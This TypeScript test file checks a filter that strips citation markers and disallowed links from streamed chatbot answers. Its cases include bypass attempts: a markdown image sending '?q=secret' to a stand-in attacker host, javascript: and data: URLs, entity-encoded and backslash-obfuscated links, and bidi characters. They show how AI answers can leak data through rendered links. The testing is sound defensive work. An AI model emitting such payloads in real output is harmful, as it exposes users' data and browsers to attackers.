import { describe, expect, it } from "vitest";
import { createAnswerFilter } from "./answer-filter.ts";
import { allowLinkHosts } from "./link-hosts.ts";

const isAllowed = allowLinkHosts(["docs.example"]);

function filterOf(pieces: readonly string[]): string {
  const filter = createAnswerFilter(2, isAllowed);
  return pieces.map((piece) => filter.push(piece)).join("") + filter.end();
}

const cases: readonly (readonly [answer: string, shown: string])[] = [
  ["25 days [doc1], and [doc2].", "25 days [doc1], and [doc2]."],
  ["25 days [doc3].", "25 days."],
  ["[doc0][doc10][doc999999999999]", "[doc999999999999]"],
  ["[Doc1] [doc02]", "[doc1] [doc2]"],
  ["a [docs] b [do] [x](y", "a [docs] b [do] [x](#"],
  ["休暇は25日[doc1]。年休[doc9]。", "休暇は25日[doc1]。年休。"],
  ["See https://docs.example/a?b=c.", "See https://docs.example/a?b=c."],
  ["See https://evil.example/a, or not.", "See (link removed), or not."],
  ["HTTP://docs.example ok", "(link removed) ok"],
  ["www.evil.example www.docs.example", "(link removed) (link removed)"],
  ["![x](https://evil.example/?q=secret)", "![x](#)"],
  ["[x](https://docs.example/a)", "[x](https://docs.example/a)"],
  ["[x]( <javascript:alert(1)>)", "[x](#)>)"],
  ["[doc1](javascript:alert(1))", "[doc1](#))"],
  ["[x](/sign-out)", "[x](#)"],
  ["https://docs.example/](https://evil.example/)", "https://docs.example/](#)"],
  ["https://docs.example@evil.example/", "(link removed)"],
  [
    "https:\\\\evil.example\\x //evil.example \\\\server\\share",
    "(link removed) (link removed) (link removed)",
  ],
  ["evil://evil.example", "evil:(link removed)"],
  ["1 / 2 // 3, a/b, http, w, ww", "1 / 2 // 3, a/b, http, w, ww"],
  ["https://évil.example/x 見て", "(link removed) 見て"],
  ["[1]: https://evil.example/?q", "[1]: #"],
  ["[1]: <https://evil.example/?q>", "[1]: #>"],
  ["[1]:\n  //evil.example", "[1]: #"],
  ["[1]: https://docs.example/a", "[1]: https://docs.example/a"],
  ["[1]: javascript:alert(1) [2]: /sign-out", "[1]: # [2]: #"],
  ["[note]: and/or, or none", "[note]: and/or, or none"],
  ["[doc1]: /sign-out [doc9]: //evil.example", "[doc1]: # (link removed)"],
  ["[doc1]: 25 days. [doc9]: none.", "[doc1]: 25 days.: none."],
  ["<https://evil.example> <https://docs.example/a>", "(link removed) <https://docs.example/a>"],
  ["<data:text/html,x> <mailto:a@evil.example?q>", "(link removed) (link removed)"],
  ["a < b, <br>, x<y, 1<2:3", "a < b, <br>, x<y, 1<2:3"],
  ["[1]: https:&#47;&#47;evil.example/?q", "[1]: #"],
  ['<img src="https:&sol;&#x2F;evil.example">', '<img src="(link removed)">'],
  ["https&colon;//evil.example", "https& colon;(link removed)"],
  ["don&#39;t &amp; R&D &#8217; &nbsp; a&b", "don&#39;t &amp; R&D &#8217; &nbsp; a&b"],
  ["&&#47;&&sol;evil.example/", "&& #47;&& sol;evil.example/"],
  ["https:/[doc9]/evil.example www.[doc9]evil.example", "(link removed) (link removed)"],
  ["[do[doc9]c1] [doc[doc9]2]", "[doc1] [doc2]"],
  ["//evil.example(data:text/html,x)", "(link removed)(data:text/html,x)"],
  ["<a href=javascript:alert> a=b, c='d'", "<a href=(link removed)> a=b, c='d'"],
  ["<img src=//'q.evil.example>", "<img src=(link removed)>"],
  ["https:evil.example https: no", "(link removed) https: no"],
  ['<img src="https:/\n/evil.example/?q">', '<img src="(link removed)">'],
  ["https:/\u202E/evil.example", "(link removed)"],
  ["a\u202Eb\u{E0041}c \u{1F600}", "abc \u{1F600}"],
  ["سلام \u200Fنعم می\u200Cخواهم", "سلام \u200Fنعم می\u200Cخواهم"],
];

describe("an answer", () => {
  it.each(cases)("%s", (answer, shown) => {
    expect(filterOf([answer])).toBe(shown);
  });

  it.each(cases)(
    "[answer/links-however-written] is the same wherever it is cut: %s",
    (answer, shown) => {
      for (let cut = 0; cut <= answer.length; cut += 1) {
        expect(filterOf([answer.slice(0, cut), answer.slice(cut)])).toBe(shown);
      }
      expect(filterOf(answer.split(""))).toBe(shown);
    },
  );

  it("is passed on as soon as it is clear what it is", () => {
    const filter = createAnswerFilter(1, isAllowed);
    expect(filter.push("Employees get ")).toBe("Employees get");
    expect(filter.push("25 days")).toBe(" 25 days");
    expect(filter.push(" [doc")).toBe("");
    expect(filter.push("1] of")).toBe(" [doc1] of");
  });
});

describe("a text that is put together by chance", () => {
  const parts =
    "https: http: // / \\ evil.example/q docs.example/a www. [ ] ( ) < > ! [doc1] [doc9] ]: ]( &#47; &sol; &colon; javascript: data:x a = \" ' @ . ? \n \t \u202E \u{E0041} \u{1F600} d o c 1 & #".split(
      " ",
    );

  it.each([1, 2, 3, 4])("is the same wherever it is cut (%i)", (seed) => {
    let state = seed;
    const next = (limit: number): number => {
      state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
      return Math.floor((state / 2 ** 32) * limit);
    };
    for (let round = 0; round < 500; round += 1) {
      const pieces = Array.from({ length: 1 + next(12) }, () => parts[next(parts.length)] ?? " ");
      const text = pieces.join("");
      const whole = filterOf([text]);
      // the text, to know it by
      expect([text, filterOf(pieces)]).toEqual([text, whole]);
      expect([text, filterOf(text.split(""))]).toEqual([text, whole]);
      expect(whole).not.toMatch(/(?:\/\/|\\\\|www\.)[^\s<>()[\]{}"'/\\]*evil\.example/);
    }
  });
});

it.each([
  ["spaces", " ", "x"],
  ["spaces behind a definition", "]: ".padEnd(100), "x"],
  ["addresses", "www.", " "],
  ["links", "](", ")"],
  ["slashes", "/\n", " "],
  ["beginnings of marks", "[doc1 ", "x"],
  ["elements", "<a:", " "],
  ["entities", "&#4", " "],
])("an endless row of %s takes no endless time", (_, unit, end) => {
  const row = unit.repeat(Math.ceil(100_000 / unit.length));
  const start = performance.now();
  filterOf([row + end]);
  filterOf([...(row.match(/[^]{1,500}/g) ?? []), end]);
  expect(performance.now() - start).toBeLessThan(3_000);
});
